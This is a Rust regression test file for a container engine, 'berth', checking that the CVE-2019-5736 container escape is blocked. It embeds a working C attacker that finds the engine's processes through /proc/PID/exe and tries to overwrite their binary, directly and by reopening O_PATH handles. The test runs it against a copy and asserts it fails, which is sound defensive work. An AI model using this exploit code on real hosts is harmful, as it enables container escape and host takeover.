//! CVE-2019-5736: a container process must never reach a writable host copy of the berth
//! binary through `/proc/PID/exe` of a berth process that entered the container: the
//! monitor (its clone is the container's init) and each `exec`.
//!
//! The attack runs for real, on a copy of the binary the test made (a successful attack
//! corrupts only the copy): berth itself is made to run inside the container the way the
//! CVE did it, through an entry point that is a link to `/proc/self/exe` (the binary's
//! loader and libraries are copied in, as an image with a libc has them), once as the
//! container's init (so its `/proc/1/exe` is the monitor's binary) and once as an exec'd
//! process. An attacker in the container holds those binaries open and tries to write
//! them: at once, and by reopening an `O_PATH` handle through /proc/self/fd after they
//! exited. The host binary's hash must not change, and every binary the attacker held
//! must be one the kernel refuses to write (a read-only overlayfs or a sealed memfd), not
//! merely one that is busy right now.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::{self, Berth};
use crate::helper;

/// For `argv[1]` seconds, attacks every other process of its pid namespace whose
/// /proc/PID/exe names a berth binary: opens the exe for writing, and keeps an `O_PATH`
/// handle that every pass reopens for writing through /proc/self/fd. Prints
/// `held PID KIND TARGET` once per process (KIND: what the file is), `wrote PID HOW` for
/// a write that landed, and `scans N held M wrote W` at the end.
const ATTACKER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>
#ifndef F_SEAL_FUTURE_WRITE
#define F_SEAL_FUTURE_WRITE 0x0010
#endif
#define OVERLAY_MAGIC 0x794c7630
#define MAX 64

static int held[MAX], held_pid[MAX], nheld, wrote;

static int try_write(int fd, const char *how, int pid) {
    int done = pwrite(fd, "PWNED", 5, 0) == 5;
    if (done) { printf("wrote %d %s\n", pid, how); wrote++; }
    close(fd);
    return done;
}

static const char *kind(int opath) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", opath);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return "unreadable";
    const char *k = "plain";
    int seals = fcntl(fd, F_GET_SEALS);
    struct statfs fs;
    if (seals >= 0 && (seals & (F_SEAL_WRITE | F_SEAL_FUTURE_WRITE))) k = "sealed-memfd";
    else if (fstatfs(fd, &fs) == 0 && fs.f_type == OVERLAY_MAGIC && (fs.f_flags & ST_RDONLY))
        k = "ro-overlay";
    close(fd);
    return k;
}

int main(int argc, char **argv) {
    int self = getpid();
    time_t end = time(0) + atoi(argv[1]);
    long scans = 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (time(0) < end) {
        scans++;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            char path[64], target[256];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n <= 0) continue;
            target[n] = 0;
            if (!strstr(target, "berth")) continue;
            int fd = open(path, O_WRONLY);
            if (fd >= 0) try_write(fd, "direct", pid);
            int known = 0;
            for (int i = 0; i < nheld; i++) known |= held_pid[i] == pid;
            if (known || nheld == MAX) continue;
            int h = open(path, O_PATH | O_CLOEXEC);
            if (h < 0) continue;
            held[nheld] = h; held_pid[nheld++] = pid;
            printf("held %d %s %s\n", pid, kind(h), target);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            if (held[i] < 0) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int fd = open(p, O_WRONLY);
            // One write through a handle proves the point.
            if (fd >= 0 && try_write(fd, "reopened", held_pid[i])) { close(held[i]); held[i] = -1; }
        }
        usleep(2000);
    }
    printf("scans %ld held %d wrote %d\n", scans, nheld, wrote);
    return 0;
}
"#;

fn sha256(path: &Path) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(std::fs::read(path).unwrap()))
}

/// The binary's ELF loader and shared libraries, as `ldd` lists them.
fn shared_libraries(exe: &Path) -> Vec<PathBuf> {
    let out = Command::new("ldd").arg(exe).output().expect("run ldd");
    assert!(out.status.success(), "ldd {exe:?}");
    common::stdout(&out)
        .lines()
        .filter_map(|line| {
            let path = match line.split_once("=>") {
                Some((_, rest)) => rest.split_whitespace().next()?,
                None => line.split_whitespace().next()?,
            };
            path.starts_with('/').then(|| PathBuf::from(path))
        })
        .collect()
}

/// Runs `berth` (the copy) on the test's engine.
fn copy_cmd(berth: &Berth, exe: &Path) -> Command {
    let mut words = berth.command_words();
    let at = words
        .iter()
        .position(|w| w == env!("CARGO_BIN_EXE_berth"))
        .expect("the berth binary among the command words");
    words[at] = exe.display().to_string();
    let mut cmd = Command::new(&words[0]);
    cmd.args(&words[1..]).stdin(Stdio::null());
    cmd
}

fn ok(cmd: &mut Command) -> String {
    let out = cmd.output().expect("spawn berth");
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}{}",
        common::stdout(&out),
        common::stderr(&out)
    );
    common::stdout(&out)
}

#[test]
fn a_container_cannot_write_the_host_binary_through_the_monitor_or_an_exec() {
    // Declared first, dropped last: the engine's cleanup runs while the copy exists.
    let scratch = tempfile::tempdir().unwrap();
    let berth = Berth::with_image();
    let exe = scratch.path().join("bin/berth");
    std::fs::create_dir_all(exe.parent().unwrap()).unwrap();
    std::fs::copy(env!("CARGO_BIN_EXE_berth"), &exe).unwrap();
    let before = sha256(&exe);
    let copy = |args: &[&str]| ok(copy_cmd(&berth, &exe).args(args));

    // An image in which berth runs: its loader and libraries, the attacker, and an entry
    // point that is the running binary itself.
    copy(&["run", "-d", "--name", "prep", common::IMAGE, "sleep", "300"]);
    let attacker = helper::build_static(scratch.path(), "attack", ATTACKER);
    copy(&["cp", attacker.to_str().unwrap(), "prep:/attack"]);
    for lib in shared_libraries(&exe) {
        let dir = lib.parent().unwrap().to_str().unwrap();
        copy(&["exec", "prep", "mkdir", "-p", dir]);
        let real = std::fs::canonicalize(&lib).unwrap();
        copy(&[
            "cp",
            real.to_str().unwrap(),
            &format!("prep:{}", lib.display()),
        ]);
    }
    copy(&["exec", "prep", "ln", "-s", "/proc/self/exe", "/entry"]);
    copy(&["commit", "prep", "berth-test/entry"]);
    copy(&["rm", "-f", "prep"]);
    // berth runs inside: the attack is live, not stopped by a missing loader.
    let version = copy(&["run", "--rm", "berth-test/entry", "/entry", "--version"]);
    assert!(version.contains("berth"), "{version}");

    // The container's init is berth itself, from the monitor's binary; it streams events
    // of an engine of its own until killed.
    copy(&[
        "run",
        "-d",
        "--name",
        "c",
        "berth-test/entry",
        "/entry",
        "--root",
        "/tmp/inner",
        "events",
    ]);
    let mut attack = copy_cmd(&berth, &exe)
        .args(["exec", "c", "/attack", "8"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    // An exec'd process that is berth too, killed a moment later (by its name, its
    // argv[0]'s, sparing pid 1): the attacker then reopens its binary as the CVE's
    // exploit did.
    for round in 0..3 {
        let inner = format!("/tmp/inner{round}");
        copy(&["exec", "-d", "c", "/entry", "--root", &inner, "events"]);
        std::thread::sleep(Duration::from_millis(700));
        copy(&[
            "exec",
            "c",
            "sh",
            "-c",
            r#"for p in $(pidof entry); do [ "$p" = 1 ] || kill "$p"; done"#,
        ]);
        std::thread::sleep(Duration::from_millis(300));
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    while attack.try_wait().unwrap().is_none() {
        assert!(Instant::now() < deadline, "the attacker did not finish");
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = attack.wait_with_output().unwrap();
    let seen = common::stdout(&out);
    assert!(out.status.success(), "{seen}{}", common::stderr(&out));

    assert_eq!(sha256(&exe), before, "the host binary changed:\n{seen}");
    assert!(!seen.lines().any(|l| l.starts_with("wrote ")), "{seen}");
    assert!(seen.contains(" wrote 0\n"), "{seen}");
    let held: Vec<&str> = seen.lines().filter(|l| l.starts_with("held ")).collect();
    // pid 1 (the monitor's binary) and at least one exec'd berth were attacked.
    assert!(held.iter().any(|l| l.starts_with("held 1 ")), "{seen}");
    assert!(
        held.len() >= 2,
        "the attacker held no exec'd berth:\n{seen}"
    );
    for line in &held {
        assert!(
            line.contains(" ro-overlay ") || line.contains(" sealed-memfd "),
            "a berth binary the container can reach is not write-protected: {line}\n{seen}"
        );
    }
}

/// The device of the file process `pid` runs, once it runs from a read-only overlayfs
/// (after `berth exec` re-executed itself sealed): each overlayfs mount has a device of
/// its own.
fn sealed_exe_device(pid: u32) -> u64 {
    use std::os::unix::fs::MetadataExt;
    let exe = format!("/proc/{pid}/exe");
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let overlay = nix::sys::statfs::statfs(exe.as_str())
            .is_ok_and(|fs| fs.filesystem_type() == nix::sys::statfs::OVERLAYFS_SUPER_MAGIC);
        if overlay {
            if let Ok(meta) = std::fs::metadata(&exe) {
                return meta.dev();
            }
        }
        assert!(
            Instant::now() < deadline,
            "process {pid} never ran from a read-only view"
        );
        std::thread::sleep(Duration::from_millis(1));
    }
}

/// The parent of process `pid`, from /proc/PID/stat.
fn parent_of(pid: u32) -> Option<u32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit(") ")
        .next()
        .and_then(|rest| rest.split(' ').nth(1))
        .and_then(|ppid| ppid.parse().ok())
}

/// The joiner of a running exec: the host parent of the `sh` whose command line holds
/// `marker` (the CLI's holds it too).
fn joiner_of(marker: &str) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let found = std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
            .find(|pid| {
                std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|c| {
                    c.starts_with(b"sh\0") && String::from_utf8_lossy(&c).contains(marker)
                })
            })
            .and_then(parent_of);
        if let Some(joiner) = found {
            return joiner;
        }
        assert!(Instant::now() < deadline, "no process holds {marker}");
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// The device of the file process `pid` runs.
fn exe_device(pid: u32) -> u64 {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(format!("/proc/{pid}/exe")).unwrap().dev()
}

/// What enters the container for `exec` (the joiner, parent of the exec'd process) runs
/// from the view of berth its container's monitor runs from, as the monitor's child,
/// when the monitor is the same binary: the CLI runs on from the host's binary, so berth
/// starts once (no second start from a sealed view, no overlayfs of its own to mount nor
/// to tear down). When berth was replaced since the container started, the CLI re-executes
/// from a view of its own and forks the joiner itself.
#[test]
fn exec_runs_from_its_monitors_view_only_when_it_is_the_same_binary() {
    use std::os::unix::fs::MetadataExt;
    let scratch = tempfile::tempdir().unwrap();
    let berth = Berth::with_image();
    let other = scratch.path().join("bin/berth");
    std::fs::create_dir_all(other.parent().unwrap()).unwrap();
    std::fs::copy(env!("CARGO_BIN_EXE_berth"), &other).unwrap();
    berth.ok(&["run", "-d", "--name", "c", common::IMAGE, "sleep", "300"]);
    let init = berth.inspect("c")["State"]["Pid"].as_u64().unwrap() as u32;
    let monitor = parent_of(init).unwrap();
    let monitor_device = sealed_exe_device(monitor);
    let host_device = std::fs::metadata(env!("CARGO_BIN_EXE_berth"))
        .unwrap()
        .dev();
    assert_ne!(monitor_device, host_device);
    let exec = |mut cmd: Command, marker: &str| {
        cmd.args(["exec", "c", "sh", "-c", &format!("sleep 2; : {marker}")])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };

    let marker = format!("same-{}", std::process::id());
    let cli = exec(berth.cmd(), &marker);
    let joiner = joiner_of(&marker);
    assert_eq!(
        parent_of(joiner),
        Some(monitor),
        "the monitor forks the joiner"
    );
    assert_eq!(sealed_exe_device(joiner), monitor_device);
    assert_eq!(exe_device(cli.id()), host_device, "the CLI started once");
    let out = cli.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));

    let marker = format!("replaced-{}", std::process::id());
    let cli = exec(copy_cmd(&berth, &other), &marker);
    let joiner = joiner_of(&marker);
    assert_eq!(
        parent_of(joiner),
        Some(cli.id()),
        "the CLI forks the joiner"
    );
    let own = sealed_exe_device(joiner);
    assert_ne!(own, monitor_device);
    assert_ne!(own, host_device);
    assert_eq!(exe_device(cli.id()), own);
    let out = cli.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
}
